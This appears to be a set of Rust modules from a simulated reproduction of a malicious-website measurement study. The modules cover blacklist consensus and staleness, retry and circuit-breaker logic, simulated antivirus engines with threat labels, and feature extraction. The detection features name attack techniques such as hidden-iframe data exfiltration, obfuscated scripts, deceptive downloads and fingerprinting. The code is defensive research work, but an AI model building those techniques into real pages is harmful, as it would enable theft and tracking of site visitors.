        let report = q.report(&slum_websim::Url::http("x.example", "/"), &f);
        let mut sorted = report.findings.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(report.findings, sorted);
    }
}
