//! Domain blacklists and the multi-list consensus rule.
//!
//! §III-B: the study consults six public blacklists (URLBlacklist,
//! Shallalist, Google Safe Browsing, SquidGuard MESD, Malware Domain
//! List, Zeus Tracker) and — because "blacklists are updated
//! infrequently, they may contain false positives" — labels a domain
//! malicious **only if it is present in multiple blacklists**.

use std::collections::HashSet;

use slum_websim::{GroundTruth, MaliceKind, SyntheticWeb};

use crate::hash::chance;

/// The six blacklists and the coverage each achieves over truly
/// blacklist-worthy domains. Coverage is a modelling choice (the paper
/// does not publish per-list hit rates); the values leave every real
/// entry on ≥2 lists with high probability while keeping lists visibly
/// different.
pub const LIST_SPECS: [(&str, f64); 6] = [
    ("urlblacklist", 0.88),
    ("shallalist", 0.82),
    ("google-safe-browsing", 0.93),
    ("squidguard-mesd", 0.60),
    ("malware-domain-list", 0.72),
    ("zeus-tracker", 0.30),
];

/// Fraction of *benign* domains that end up as a stale entry on exactly
/// one list (the false-positive source the consensus rule suppresses).
const STALE_FP_RATE: f64 = 0.01;

/// One blacklist.
#[derive(Debug, Clone)]
pub struct Blacklist {
    /// List name.
    pub name: &'static str,
    domains: HashSet<String>,
}

impl Blacklist {
    /// Creates an empty list.
    pub fn new(name: &'static str) -> Self {
        Blacklist { name, domains: HashSet::new() }
    }

    /// Adds a domain.
    pub fn insert(&mut self, domain: impl Into<String>) {
        self.domains.insert(domain.into().to_ascii_lowercase());
    }

    /// Membership test (exact registered-domain match).
    pub fn contains(&self, domain: &str) -> bool {
        self.domains.contains(&domain.to_ascii_lowercase())
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.domains.len()
    }

    /// True when the list has no entries.
    pub fn is_empty(&self) -> bool {
        self.domains.is_empty()
    }
}

/// Verdict of a consensus lookup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlacklistVerdict {
    /// Lists that contain the domain.
    pub hits: Vec<&'static str>,
    /// Consensus threshold in force.
    pub threshold: usize,
}

impl BlacklistVerdict {
    /// Malicious per the consensus rule (≥ threshold lists).
    pub fn is_blacklisted(&self) -> bool {
        self.hits.len() >= self.threshold
    }

    /// A single-list hit — the stale-entry FP shape the rule exists to
    /// suppress.
    pub fn is_single_list_only(&self) -> bool {
        self.hits.len() == 1
    }
}

/// The six-list database.
///
/// ```
/// use slum_detect::blacklist::BlacklistDb;
///
/// let mut db = BlacklistDb::new();
/// db.add_malicious_domain("luckyleap-clone.example.net");
/// assert!(db.check("luckyleap-clone.example.net").is_blacklisted());
/// assert!(!db.check("innocent.example.org").is_blacklisted());
/// ```
#[derive(Debug, Clone)]
pub struct BlacklistDb {
    lists: Vec<Blacklist>,
    threshold: usize,
}

impl BlacklistDb {
    /// Creates an empty database with the standard six lists and the
    /// paper's ≥2 consensus threshold.
    pub fn new() -> Self {
        BlacklistDb {
            lists: LIST_SPECS.iter().map(|(name, _)| Blacklist::new(name)).collect(),
            threshold: 2,
        }
    }

    /// Populates the lists from the synthetic web's oracle: every
    /// blacklist-category malicious domain lands on each list with that
    /// list's coverage probability (deterministic per domain), and a
    /// sprinkle of benign domains become stale single-list entries.
    pub fn populate_from_web(web: &SyntheticWeb) -> Self {
        let mut db = BlacklistDb::new();
        for page in web.oracle_pages() {
            let domain = page.url.registered_domain();
            match page.truth {
                GroundTruth::Malicious(MaliceKind::Blacklisted) => {
                    db.add_malicious_domain(&domain);
                }
                GroundTruth::Benign
                    if chance(&format!("stale|{domain}"), STALE_FP_RATE) => {
                        // Stale FP: exactly one list. Pick it by hash.
                        let idx =
                            (crate::hash::fnv1a(domain.as_bytes()) as usize) % LIST_SPECS.len();
                        db.lists[idx].insert(&domain);
                    }
                _ => {}
            }
        }
        db
    }

    /// Adds a genuinely malicious domain across lists per their
    /// coverage, guaranteeing at least two lists carry it (the paper's
    /// blacklisted category is defined by the consensus rule, so a
    /// ground-truth blacklisted domain must be discoverable).
    pub fn add_malicious_domain(&mut self, domain: &str) {
        let mut hits = 0;
        for (i, (name, coverage)) in LIST_SPECS.iter().enumerate() {
            if chance(&format!("{name}|{domain}"), *coverage) {
                self.lists[i].insert(domain);
                hits += 1;
            }
        }
        // Backstop: force the two highest-coverage lists.
        if hits < 2 {
            self.lists[0].insert(domain);
            self.lists[2].insert(domain);
        }
    }

    /// Looks a domain up across all lists.
    pub fn check(&self, domain: &str) -> BlacklistVerdict {
        let hits = self
            .lists
            .iter()
            .filter(|l| l.contains(domain))
            .map(|l| l.name)
            .collect();
        BlacklistVerdict { hits, threshold: self.threshold }
    }

    /// Per-list sizes (diagnostics).
    pub fn list_sizes(&self) -> Vec<(&'static str, usize)> {
        self.lists.iter().map(|l| (l.name, l.len())).collect()
    }
}

impl Default for BlacklistDb {
    fn default() -> Self {
        Self::new()
    }
}

/// Update-lag model: "blacklists are updated infrequently" (§III-B).
///
/// Each list re-publishes on its own cycle; a domain first observed
/// malicious at time `t` only appears in a list's published snapshot at
/// the list's next update *after* `t`. A [`StalenessModel`] wraps the
/// fully-populated database and answers lookups as of a given virtual
/// time — letting experiments quantify the detection lag the paper's
/// consensus rule has to live with.
#[derive(Debug, Clone)]
pub struct StalenessModel {
    db: BlacklistDb,
    /// Update period per list, seconds (same order as [`LIST_SPECS`]).
    update_periods: [u64; 6],
    /// Domain → time it became malicious.
    first_seen: std::collections::HashMap<String, u64>,
}

impl StalenessModel {
    /// Default update periods: commercial feeds refresh daily, volunteer
    /// lists much more slowly.
    pub const DEFAULT_PERIODS: [u64; 6] = [
        86_400,      // urlblacklist: daily
        172_800,     // shallalist: 2 days
        3_600,       // google-safe-browsing: hourly
        1_209_600,   // squidguard-mesd: 2 weeks
        604_800,     // malware-domain-list: weekly
        2_592_000,   // zeus-tracker: monthly
    ];

    /// Wraps a populated database with first-seen times.
    pub fn new(db: BlacklistDb, first_seen: std::collections::HashMap<String, u64>) -> Self {
        StalenessModel { db, update_periods: Self::DEFAULT_PERIODS, first_seen }
    }

    /// Overrides the update periods.
    pub fn with_periods(mut self, periods: [u64; 6]) -> Self {
        self.update_periods = periods;
        self
    }

    /// The list's first published snapshot that can contain a domain
    /// first seen at `seen`: the next multiple of the period after it.
    fn published_at(&self, list_idx: usize, seen: u64) -> u64 {
        let period = self.update_periods[list_idx].max(1);
        (seen / period + 1) * period
    }

    /// Consensus lookup *as of* virtual time `now`.
    pub fn check_at(&self, domain: &str, now: u64) -> BlacklistVerdict {
        let seen = self.first_seen.get(&domain.to_ascii_lowercase()).copied();
        let hits = self
            .db
            .lists
            .iter()
            .enumerate()
            .filter(|(i, list)| {
                list.contains(domain)
                    && seen.is_some_and(|s| self.published_at(*i, s) <= now)
            })
            .map(|(_, list)| list.name)
            .collect();
        BlacklistVerdict { hits, threshold: self.db.threshold }
    }

    /// The earliest time the consensus rule (≥2 lists) can fire for a
    /// domain, or `None` when it never reaches two lists.
    pub fn consensus_time(&self, domain: &str) -> Option<u64> {
        let seen = *self.first_seen.get(&domain.to_ascii_lowercase())?;
        let mut publish_times: Vec<u64> = self
            .db
            .lists
            .iter()
            .enumerate()
            .filter(|(_, list)| list.contains(domain))
            .map(|(i, _)| self.published_at(i, seen))
            .collect();
        publish_times.sort_unstable();
        publish_times.get(self.db.threshold - 1).copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::build::{BenignOptions, MaliciousOptions, WebBuilder};

    #[test]
    fn empty_db_blacklists_nothing() {
        let db = BlacklistDb::new();
        assert!(!db.check("anything.example.com").is_blacklisted());
    }

    #[test]
    fn malicious_domain_hits_consensus() {
        let mut db = BlacklistDb::new();
        for i in 0..50 {
            let domain = format!("bad{i}.example.com");
            db.add_malicious_domain(&domain);
            let verdict = db.check(&domain);
            assert!(verdict.is_blacklisted(), "{domain}: only {:?}", verdict.hits);
            assert!(verdict.hits.len() >= 2);
        }
    }

    #[test]
    fn lookup_is_case_insensitive() {
        let mut db = BlacklistDb::new();
        db.add_malicious_domain("MiXeD.Example.Com");
        assert!(db.check("mixed.example.com").is_blacklisted());
    }

    #[test]
    fn coverage_varies_across_lists() {
        let mut db = BlacklistDb::new();
        for i in 0..400 {
            db.add_malicious_domain(&format!("bad{i}.example.net"));
        }
        let sizes = db.list_sizes();
        let gsb = sizes.iter().find(|(n, _)| *n == "google-safe-browsing").unwrap().1;
        let zeus = sizes.iter().find(|(n, _)| *n == "zeus-tracker").unwrap().1;
        assert!(gsb > zeus * 2, "GSB {gsb} should dwarf Zeus {zeus}");
    }

    #[test]
    fn populate_from_web_covers_blacklisted_pages() {
        let mut b = WebBuilder::new(90);
        let mut blacklisted = Vec::new();
        for _ in 0..20 {
            blacklisted.push(b.malicious_site(MaliciousOptions {
                kind: Some(slum_websim::MaliceKind::Blacklisted),
                cloaked: Some(false),
                ..Default::default()
            }));
        }
        let benign: Vec<_> = (0..20).map(|_| b.benign_site(BenignOptions::default())).collect();
        let web = b.finish();
        let db = BlacklistDb::populate_from_web(&web);
        for spec in &blacklisted {
            assert!(
                db.check(&spec.url.registered_domain()).is_blacklisted(),
                "{} must be consensus-blacklisted",
                spec.url
            );
        }
        // Benign domains may be stale single-list entries, but never
        // consensus-blacklisted.
        for spec in &benign {
            assert!(!db.check(&spec.url.registered_domain()).is_blacklisted());
        }
    }

    #[test]
    fn consensus_rule_suppresses_single_list_fp() {
        let mut db = BlacklistDb::new();
        db.lists[3].insert("innocent.example.org");
        let verdict = db.check("innocent.example.org");
        assert!(verdict.is_single_list_only());
        assert!(!verdict.is_blacklisted());
    }

    #[test]
    fn staleness_delays_consensus() {
        let mut db = BlacklistDb::new();
        db.add_malicious_domain("fresh-threat.example.com");
        let mut first_seen = std::collections::HashMap::new();
        first_seen.insert("fresh-threat.example.com".to_string(), 1_000u64);
        let model = StalenessModel::new(db, first_seen);

        // Immediately after appearing, no published snapshot carries it.
        assert!(!model.check_at("fresh-threat.example.com", 1_001).is_blacklisted());

        // Eventually the consensus fires.
        let when = model.consensus_time("fresh-threat.example.com").expect("multi-list");
        assert!(when > 1_000);
        assert!(!model.check_at("fresh-threat.example.com", when - 1).is_blacklisted());
        assert!(model.check_at("fresh-threat.example.com", when).is_blacklisted());
    }

    #[test]
    fn fast_lists_fire_before_slow_ones() {
        // With uniform coverage forced, GSB (hourly) publishes long
        // before Zeus (monthly): the first hit arrives within ~1h, the
        // consensus (2nd list) within the 2nd-fastest period.
        let mut db = BlacklistDb::new();
        for list in &mut db.lists {
            list.insert("always-listed.example.com");
        }
        let mut first_seen = std::collections::HashMap::new();
        first_seen.insert("always-listed.example.com".to_string(), 0u64);
        let model = StalenessModel::new(db, first_seen);
        let verdict_hour = model.check_at("always-listed.example.com", 3_600);
        assert_eq!(verdict_hour.hits, vec!["google-safe-browsing"]);
        assert!(!verdict_hour.is_blacklisted(), "one list is not consensus");
        // After a day the daily list has published too → consensus.
        assert!(model.check_at("always-listed.example.com", 86_400).is_blacklisted());
    }

    #[test]
    fn unknown_domain_never_blacklisted_by_model() {
        let model = StalenessModel::new(BlacklistDb::new(), std::collections::HashMap::new());
        assert!(!model.check_at("ghost.example.com", u64::MAX).is_blacklisted());
        assert_eq!(model.consensus_time("ghost.example.com"), None);
    }
}
