//! Retry policy with bounded exponential backoff and seeded jitter.
//!
//! The paper's scan campaign ran for months against rate-limited,
//! intermittently unavailable services (the public VirusTotal API is
//! hard-capped at a few requests per minute), so a production-shaped
//! reproduction needs a retry discipline. Everything here runs on the
//! *simulated* clock: backoff delays are virtual nanoseconds added to a
//! request's virtual arrival time, never real sleeps, so retries are
//! deterministic per seed and free at test time.
//!
//! Determinism contract: [`RetryPolicy::backoff_nanos`] is a pure
//! function of `(policy, key, attempt)`, and the schedule it yields is
//! monotone non-decreasing in the attempt number by construction (the
//! jitter for attempt `n` is bounded by half the raw backoff, and the
//! schedule takes a running maximum so capping at
//! [`RetryPolicy::max_backoff_nanos`] can never produce a shrinking
//! delay).

use crate::hash::fnv1a;

/// Bounded exponential backoff with deterministic per-key jitter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Maximum number of *re*-attempts after the initial try.
    pub max_retries: u32,
    /// Backoff before the first retry (virtual nanoseconds).
    pub base_backoff_nanos: u64,
    /// Cap on the raw exponential term (virtual nanoseconds).
    pub max_backoff_nanos: u64,
    /// Salt mixed into the per-key jitter hash, so two policies with
    /// the same shape can still jitter differently.
    pub jitter_salt: u64,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy {
            max_retries: 4,
            base_backoff_nanos: 500_000_000,        // 0.5 virtual seconds
            max_backoff_nanos: 16_000_000_000,      // 16 virtual seconds
            jitter_salt: 0x5ca1_ab1e,
        }
    }
}

/// How one faulted request resolved under a [`RetryPolicy`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Resolution {
    /// Attempts that failed (each one is an injected fault observed by
    /// the caller).
    pub failed_attempts: u32,
    /// Retries issued (`failed_attempts` when the request eventually
    /// succeeded, `max_retries` when the budget ran out).
    pub retries: u32,
    /// Total virtual backoff spent waiting between attempts.
    pub backoff_nanos: u64,
    /// Whether an attempt eventually succeeded within the budget.
    pub resolved: bool,
}

impl RetryPolicy {
    /// A policy that never retries (used by inert fault profiles).
    pub fn no_retries() -> Self {
        RetryPolicy { max_retries: 0, ..RetryPolicy::default() }
    }

    /// The backoff before retry number `attempt` (0-based) of the
    /// request identified by `key`.
    ///
    /// The raw schedule is `min(base << attempt, max)` plus a
    /// deterministic jitter in `[0, raw/2]` hashed from
    /// `(key, attempt, salt)`; the returned value is the running
    /// maximum of the jittered schedule, so it is monotone
    /// non-decreasing in `attempt` and bounded by
    /// `1.5 * max_backoff_nanos`.
    pub fn backoff_nanos(&self, key: &str, attempt: u32) -> u64 {
        let mut best = 0u64;
        for n in 0..=attempt {
            let raw = self
                .base_backoff_nanos
                .checked_shl(n)
                .unwrap_or(self.max_backoff_nanos)
                .min(self.max_backoff_nanos);
            let jitter_span = raw / 2 + 1;
            let h = fnv1a(format!("{key}#retry{n}#{}", self.jitter_salt).as_bytes());
            best = best.max(raw + h % jitter_span);
        }
        best
    }

    /// Resolves a request that arrives (on the virtual clock) at
    /// `at_nanos` against a fault that clears at `clears_at_nanos`:
    /// attempts fail while the virtual clock is before the clear time,
    /// each failure waits out the next backoff step, and the request
    /// either lands after the fault clears or exhausts the retry
    /// budget. Pure per `(policy, key, times)`, so the outcome is
    /// identical no matter which worker thread replays it.
    pub fn resolve(&self, key: &str, at_nanos: u64, clears_at_nanos: u64) -> Resolution {
        let mut now = at_nanos;
        let mut resolution = Resolution::default();
        loop {
            if now >= clears_at_nanos {
                resolution.resolved = true;
                return resolution;
            }
            resolution.failed_attempts += 1;
            if resolution.retries == self.max_retries {
                return resolution;
            }
            let backoff = self.backoff_nanos(key, resolution.retries);
            resolution.retries += 1;
            resolution.backoff_nanos += backoff;
            now = now.saturating_add(backoff);
        }
    }
}

/// Circuit-breaker states (the classic three-state machine).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BreakerState {
    /// Requests flow; consecutive failures are being counted.
    Closed,
    /// Requests are short-circuited until the cooldown passes.
    Open,
    /// Cooldown elapsed; the next request is a trial.
    HalfOpen,
}

impl BreakerState {
    /// Stable integer encoding for gauges (0 closed, 1 open, 2
    /// half-open).
    pub fn as_gauge(self) -> i64 {
        match self {
            BreakerState::Closed => 0,
            BreakerState::Open => 1,
            BreakerState::HalfOpen => 2,
        }
    }
}

/// A per-service circuit breaker driven by explicit virtual
/// timestamps.
///
/// The breaker is *compiled into the fault plan*, not consulted live
/// from scan workers: [`crate::fault::FaultPlan::compile`] walks the
/// corpus in virtual-time order, feeding each request's resolution into
/// the breaker, and records per-request skip decisions — which is what
/// makes breaker behaviour bit-identical for every scan worker count.
#[derive(Debug, Clone)]
pub struct CircuitBreaker {
    failure_threshold: u32,
    cooldown_nanos: u64,
    consecutive_failures: u32,
    state: BreakerState,
    open_until_nanos: u64,
    opens: u64,
}

impl CircuitBreaker {
    /// Creates a closed breaker. A `failure_threshold` of 0 disables
    /// the breaker entirely (it never opens).
    pub fn new(failure_threshold: u32, cooldown_nanos: u64) -> Self {
        CircuitBreaker {
            failure_threshold,
            cooldown_nanos,
            consecutive_failures: 0,
            state: BreakerState::Closed,
            open_until_nanos: 0,
            opens: 0,
        }
    }

    /// Whether a request arriving at `now_nanos` may proceed. An open
    /// breaker whose cooldown has elapsed transitions to half-open and
    /// admits the request as a trial.
    pub fn allows(&mut self, now_nanos: u64) -> bool {
        match self.state {
            BreakerState::Closed | BreakerState::HalfOpen => true,
            BreakerState::Open => {
                if now_nanos >= self.open_until_nanos {
                    self.state = BreakerState::HalfOpen;
                    true
                } else {
                    false
                }
            }
        }
    }

    /// Records a request that ultimately succeeded (possibly after
    /// retries): closes the breaker and resets the failure streak.
    pub fn record_success(&mut self) {
        self.consecutive_failures = 0;
        self.state = BreakerState::Closed;
    }

    /// Records a request that exhausted its retry budget at
    /// `now_nanos`. A half-open trial failure re-opens immediately;
    /// a closed breaker opens once the streak reaches the threshold.
    pub fn record_failure(&mut self, now_nanos: u64) {
        if self.failure_threshold == 0 {
            return;
        }
        self.consecutive_failures += 1;
        let trip = self.state == BreakerState::HalfOpen
            || self.consecutive_failures >= self.failure_threshold;
        if trip {
            self.state = BreakerState::Open;
            self.open_until_nanos = now_nanos.saturating_add(self.cooldown_nanos);
            self.opens += 1;
            self.consecutive_failures = 0;
        }
    }

    /// Current state.
    pub fn state(&self) -> BreakerState {
        self.state
    }

    /// How many times the breaker has tripped open.
    pub fn opens(&self) -> u64 {
        self.opens
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn backoff_is_monotone_and_bounded() {
        let policy = RetryPolicy::default();
        let mut prev = 0;
        for attempt in 0..12 {
            let b = policy.backoff_nanos("req-1", attempt);
            assert!(b >= prev, "attempt {attempt}: {b} < {prev}");
            assert!(b <= policy.max_backoff_nanos * 3 / 2 + 1);
            prev = b;
        }
    }

    #[test]
    fn backoff_is_deterministic_per_key_and_varies_across_keys() {
        let policy = RetryPolicy::default();
        assert_eq!(policy.backoff_nanos("a", 3), policy.backoff_nanos("a", 3));
        let distinct = (0..32)
            .map(|i| policy.backoff_nanos(&format!("key-{i}"), 2))
            .collect::<std::collections::BTreeSet<_>>();
        assert!(distinct.len() > 1, "jitter must spread keys");
    }

    #[test]
    fn resolve_succeeds_once_fault_clears() {
        let policy = RetryPolicy::default();
        // Fault clears after ~1 virtual second; base backoff is 0.5s, so
        // a couple of retries land past the clear time.
        let r = policy.resolve("req", 0, 1_000_000_000);
        assert!(r.resolved);
        assert!(r.retries >= 1 && r.retries <= policy.max_retries);
        assert_eq!(r.failed_attempts, r.retries);
        assert!(r.backoff_nanos >= 1_000_000_000);
    }

    #[test]
    fn resolve_exhausts_budget_against_long_fault() {
        let policy = RetryPolicy::default();
        let r = policy.resolve("req", 0, u64::MAX);
        assert!(!r.resolved);
        assert_eq!(r.retries, policy.max_retries);
        assert_eq!(r.failed_attempts, policy.max_retries + 1);
    }

    #[test]
    fn resolve_with_no_fault_is_free() {
        let policy = RetryPolicy::default();
        let r = policy.resolve("req", 10, 10);
        assert_eq!(r, Resolution { resolved: true, ..Resolution::default() });
    }

    #[test]
    fn breaker_opens_after_threshold_and_half_opens_after_cooldown() {
        let mut b = CircuitBreaker::new(3, 1_000);
        assert!(b.allows(0));
        b.record_failure(0);
        b.record_failure(1);
        assert_eq!(b.state(), BreakerState::Closed);
        b.record_failure(2);
        assert_eq!(b.state(), BreakerState::Open);
        assert_eq!(b.opens(), 1);
        assert!(!b.allows(500));
        assert!(b.allows(1_002), "cooldown elapsed");
        assert_eq!(b.state(), BreakerState::HalfOpen);
        // Half-open trial failure re-opens immediately.
        b.record_failure(1_002);
        assert_eq!(b.state(), BreakerState::Open);
        assert_eq!(b.opens(), 2);
        // A success after the next cooldown closes it.
        assert!(b.allows(3_000));
        b.record_success();
        assert_eq!(b.state(), BreakerState::Closed);
    }

    #[test]
    fn zero_threshold_disables_breaker() {
        let mut b = CircuitBreaker::new(0, 1_000);
        for t in 0..100 {
            b.record_failure(t);
            assert!(b.allows(t));
        }
        assert_eq!(b.opens(), 0);
    }
}
