//! Per-engine detection models.
//!
//! VirusTotal aggregates "multiple antivirus products, file
//! characterization tools, and website scanning engines" (§III-B). Each
//! [`EngineModel`] here detects a subset of feature classes and reports
//! the threat-label aliases the paper quotes from its scan reports.

use crate::features::Features;
use crate::hash::chance;

/// The classes of malicious behaviour an engine can specialize in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FeatureClass {
    /// Statically hidden iframes.
    HiddenIframe,
    /// Runtime iframe injection.
    DynamicInjection,
    /// Packed/obfuscated scripts.
    Obfuscation,
    /// Fake download prompts / executable pushes.
    DeceptiveDownload,
    /// Behaviour fingerprinting.
    Fingerprinting,
    /// Flash `ExternalInterface` abuse.
    Flash,
    /// Script/meta redirections.
    Redirect,
    /// Generic signature match.
    GenericSignature,
    /// FP-prone: Google Analytics bootstrap misread as click fraud.
    GaBootstrapFp,
    /// FP-prone: OAuth relay iframe misread as iframe injection.
    OauthRelayFp,
}

impl FeatureClass {
    /// Does `features` exhibit this class?
    pub fn present_in(self, f: &Features) -> bool {
        match self {
            FeatureClass::HiddenIframe => !f.hidden_iframes.is_empty(),
            FeatureClass::DynamicInjection => f.dynamic_iframe_injection,
            FeatureClass::Obfuscation => f.obfuscated_scripts > 0 || f.eval_layers > 0,
            FeatureClass::DeceptiveDownload => f.deceptive_download,
            FeatureClass::Fingerprinting => f.fingerprinting,
            FeatureClass::Flash => f.flash_clickjack || f.external_interface_calls > 0,
            FeatureClass::Redirect => f.js_redirect,
            FeatureClass::GenericSignature => f.generic_malware_marker,
            FeatureClass::GaBootstrapFp => f.ga_bootstrap,
            FeatureClass::OauthRelayFp => f.oauth_relay_iframe,
        }
    }
}

/// One scanning engine: named strengths mapped to the labels it emits.
#[derive(Debug, Clone)]
pub struct EngineModel {
    /// Engine name (clearly marked as a simulation).
    pub name: &'static str,
    /// `(class, label, sensitivity)` — when the class is present the
    /// engine fires with probability `sensitivity` (deterministic per
    /// engine × sample).
    pub rules: Vec<(FeatureClass, &'static str, f64)>,
}

impl EngineModel {
    /// Scans features for sample `key` (canonical URL or content hash).
    /// Returns the first matching label.
    pub fn scan(&self, key: &str, features: &Features) -> Option<&'static str> {
        for (class, label, sensitivity) in &self.rules {
            if class.present_in(features) {
                let decision_key = format!("{}|{}|{}", self.name, label, key);
                if chance(&decision_key, *sensitivity) {
                    return Some(label);
                }
            }
        }
        None
    }
}

/// The default engine battery behind the VirusTotal aggregator. Labels
/// are the aliases reported in the paper (§IV-A, §V).
pub fn default_engines() -> Vec<EngineModel> {
    use FeatureClass::*;
    vec![
        EngineModel {
            name: "clamav-sim",
            rules: vec![
                (HiddenIframe, "HTML/IframeRef.gen", 0.95),
                (GenericSignature, "Trojan.Generic.KD", 0.95),
                (OauthRelayFp, "HTML/IframeRef.gen", 0.9),
            ],
        },
        EngineModel {
            name: "mcafee-sim",
            rules: vec![
                (Flash, "BehavesLike.JS.ExploitBlacole.nv", 0.95),
                (Obfuscation, "BehavesLike.JS.ExploitBlacole.xm", 0.85),
            ],
        },
        EngineModel {
            name: "microsoft-sim",
            rules: vec![
                (Redirect, "Trojan:JS/Redirector", 0.95),
                (DeceptiveDownload, "Trojan:Script.Heuristic-js.iacgm", 0.95),
            ],
        },
        EngineModel {
            name: "kaspersky-sim",
            rules: vec![
                (Redirect, "Trojan.Script.Generic", 0.9),
                (GenericSignature, "Trojan.Script.Generic", 0.95),
                (DeceptiveDownload, "Trojan-Downloader.Script", 0.9),
            ],
        },
        EngineModel {
            name: "avast-sim",
            rules: vec![
                (DynamicInjection, "Virus.ScrInject.JS", 0.95),
                (HiddenIframe, "Mal_Hifrm", 0.9),
                (OauthRelayFp, "Mal_Hifrm", 0.85),
            ],
        },
        EngineModel {
            name: "bitdefender-sim",
            rules: vec![
                (HiddenIframe, "Trojan.IFrame.Script", 0.9),
                (Fingerprinting, "Trojan.Spy.JS", 0.9),
            ],
        },
        EngineModel {
            name: "sophos-sim",
            rules: vec![
                (HiddenIframe, "htm.iframe.art.gen", 0.85),
                (Obfuscation, "Script.virus", 0.9),
            ],
        },
        EngineModel {
            name: "trendmicro-sim",
            rules: vec![
                (DeceptiveDownload, "JS_DLOADR.AUSUAK", 0.9),
                (Fingerprinting, "JS_SPYEYE.SMEP", 0.85),
                (GenericSignature, "HTML_IFRAME.SM", 0.85),
            ],
        },
        EngineModel {
            name: "symantec-sim",
            rules: vec![
                (Flash, "Trojan.Malscript", 0.9),
                (DynamicInjection, "Trojan.Malscript!html", 0.9),
            ],
        },
        EngineModel {
            name: "eset-sim",
            rules: vec![
                (Obfuscation, "JS/Kryptik.I", 0.9),
                (GenericSignature, "JS/TrojanDownloader.Iframe", 0.9),
                (GaBootstrapFp, "TrojanClicker:JS/Faceliker.D", 0.8),
            ],
        },
        EngineModel {
            name: "fortinet-sim",
            rules: vec![
                (DynamicInjection, "JS/Iframe.BYF!tr", 0.85),
                (Redirect, "JS/Redirector.NIO!tr", 0.85),
                (GaBootstrapFp, "TrojanClicker:JS/Faceliker.D", 0.75),
            ],
        },
        EngineModel {
            name: "drweb-sim",
            rules: vec![
                (HiddenIframe, "Trojan.IframeClick", 0.85),
                (Flash, "SWF.Exploit.Blacole", 0.85),
                (DeceptiveDownload, "Trojan.DownLoader11", 0.85),
            ],
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn features_with(f: impl FnOnce(&mut Features)) -> Features {
        let mut features = Features::default();
        f(&mut features);
        features
    }

    #[test]
    fn clean_features_fire_nothing() {
        let features = Features::default();
        for engine in default_engines() {
            assert_eq!(engine.scan("http://x.example/", &features), None, "{}", engine.name);
        }
    }

    #[test]
    fn redirect_fires_microsoft_alias() {
        let features = features_with(|f| f.js_redirect = true);
        let ms = default_engines().into_iter().find(|e| e.name == "microsoft-sim").unwrap();
        assert_eq!(ms.scan("http://r.example/", &features), Some("Trojan:JS/Redirector"));
    }

    #[test]
    fn scan_is_deterministic() {
        let features = features_with(|f| f.obfuscated_scripts = 1);
        let sophos = default_engines().into_iter().find(|e| e.name == "sophos-sim").unwrap();
        let a = sophos.scan("http://o.example/", &features);
        let b = sophos.scan("http://o.example/", &features);
        assert_eq!(a, b);
    }

    #[test]
    fn sensitivity_below_one_misses_some_samples() {
        let features = features_with(|f| f.obfuscated_scripts = 1);
        let sophos = default_engines().into_iter().find(|e| e.name == "sophos-sim").unwrap();
        let hits = (0..500)
            .filter(|i| sophos.scan(&format!("http://s{i}.example/"), &features).is_some())
            .count();
        assert!(hits > 400 && hits < 500, "sensitivity 0.9 → ~450 hits, got {hits}");
    }

    #[test]
    fn every_paper_alias_is_emitted_by_some_engine() {
        let aliases = [
            "Virus.ScrInject.JS",
            "Script.virus",
            "Trojan:Script.Heuristic-js.iacgm",
            "BehavesLike.JS.ExploitBlacole.nv",
            "BehavesLike.JS.ExploitBlacole.xm",
            "HTML/IframeRef.gen",
            "Mal_Hifrm",
            "Trojan.IFrame.Script",
            "htm.iframe.art.gen",
            "Trojan:JS/Redirector",
            "Trojan.Script.Generic",
            "TrojanClicker:JS/Faceliker.D",
        ];
        let engines = default_engines();
        for alias in aliases {
            assert!(
                engines.iter().any(|e| e.rules.iter().any(|(_, l, _)| *l == alias)),
                "alias {alias} not covered"
            );
        }
    }

    #[test]
    fn fp_rules_fire_on_benign_lookalikes() {
        let ga = features_with(|f| f.ga_bootstrap = true);
        let engines = default_engines();
        let fp_hits = engines
            .iter()
            .filter_map(|e| e.scan("http://recipes.example/", &ga))
            .collect::<Vec<_>>();
        assert!(
            fp_hits.iter().any(|l| l.contains("Faceliker")),
            "GA bootstrap should draw Faceliker FPs: {fp_hits:?}"
        );
    }
}
