//! Shared feature extraction: the structural and behavioural signals
//! every detection engine keys on.
//!
//! Extraction has a static pass (DOM inspection + static deobfuscation)
//! and a dynamic pass (sandboxed execution of inline scripts). When a
//! full [`slum_browser::LoadResult`] is available — i.e. the scanner
//! fetched the URL itself, subresources included — the dynamic signals
//! from the real load are folded in too.

use std::sync::Arc;

use slum_browser::LoadResult;
use slum_html::attr::HiddenReason;
use slum_html::Document;
use slum_js::obfuscate::{is_likely_obfuscated, unpack_all_static};
use slum_js::sandbox::{Effect, JsEngine, Sandbox, SandboxReport};
use slum_js::ModuleStore;
use slum_websim::Url;

/// Extracted detection features of one sample.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Features {
    /// Hidden-iframe findings: `(reason, src)` pairs.
    pub hidden_iframes: Vec<(HiddenReason, String)>,
    /// A hidden iframe's `src` carries query-string parameters
    /// (information exfiltration, §V-A category two).
    pub iframe_exfil_query: bool,
    /// An iframe was injected at runtime (`document.write` /
    /// `createElement`+`appendChild`).
    pub dynamic_iframe_injection: bool,
    /// Number of scripts the obfuscation heuristic flagged.
    pub obfuscated_scripts: u32,
    /// Deepest `eval` layer observed (static unpack + dynamic).
    pub eval_layers: u32,
    /// Deceptive-download markup: fake install prompt, `data:` URI
    /// anchor, or navigation to a deceptively named executable.
    pub deceptive_download: bool,
    /// Behaviour fingerprinting: mousemove/keydown listeners feeding a
    /// beacon.
    pub fingerprinting: bool,
    /// Full-page transparent Flash with script access (click-jack rig).
    pub flash_clickjack: bool,
    /// Number of `ExternalInterface` calls observed.
    pub external_interface_calls: u32,
    /// Script-driven navigation away from the page (JS redirector).
    pub js_redirect: bool,
    /// Page carries a meta-refresh redirect.
    pub meta_refresh: bool,
